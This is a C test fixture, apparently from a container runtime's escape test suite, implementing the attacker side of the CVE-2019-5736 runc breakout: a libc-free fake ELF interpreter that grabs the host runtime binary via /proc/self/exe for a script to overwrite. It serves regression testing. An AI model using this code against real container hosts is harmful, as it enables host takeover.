/*
 * exe_grabber.c - the attacker's half of CVE-2019-5736, for SecurityEscapeTests only.
 *
 * Installed in a test rootfs as the ELF interpreter the runtime binary names in PT_INTERP
 * (/lib64/ld-linux-x86-64.so.2). A container file "#!/proc/self/exe" makes the kernel execute the
 * runtime's own binary (the /proc/self/exe of the process that entered the container), and the
 * kernel then hands control to this "interpreter" inside that process. It opens /proc/self/exe
 * read-only - the runtime's binary on the host - keeps it as fd 9 and execs /bin/sh /grab.sh, which
 * waits until no process runs the binary any more (writes fail with ETXTBSY before) and tries to
 * append to it through /proc/self/fd/9. On a naive runtime that append changes the host's binary.
 *
 * Built with gcc -static -nostdlib: no libc (it runs with the runtime binary's auxiliary vector,
 * which a libc's start-up code would misread), raw x86-64 system calls only.
 *
 * It must have a writable segment with file contents (shell[] below, in .data), last in the image:
 * when the kernel maps an ELF interpreter it zeroes the rest of the page after the interpreter's
 * last file-backed byte (padzero in fs/binfmt_elf.c, load_elf_interp), and kernels such as Debian's
 * 6.1 fail the exec when that page is read-only - after the point of no return, so the process
 * dies of SIGSEGV before one instruction of the interpreter ran. An image of text and rodata only
 * works on 6.18 and crashed every attempt in the 6.1 test VM (exec exit 139, init dead at once).
 */
#define SYS_open 2
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60

static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

/* Writable on purpose, see above: keeps a read-write PT_LOAD with file contents at the end of the image. */
static char shell[] __attribute__((section(".data"))) = "/bin/sh";

/* The kernel enters here with the stack holding argc, argv[], NULL, envp[]. */
__attribute__((noreturn, used)) static void grab(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    long fd = sys3(SYS_open, (long)"/proc/self/exe", 0 /* O_RDONLY */, 0);
    if (fd >= 0 && fd != 9) sys3(SYS_dup2, fd, 9, 0);
    char *args[] = { "sh", "/grab.sh", argc > 1 ? argv[1] : "", fd >= 0 ? "opened" : "open-failed", 0 };
    sys3(SYS_execve, (long)shell, (long)args, (long)envp);
    sys3(SYS_exit, 127, 0, 0);
    __builtin_unreachable();
}

__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call grab\n");
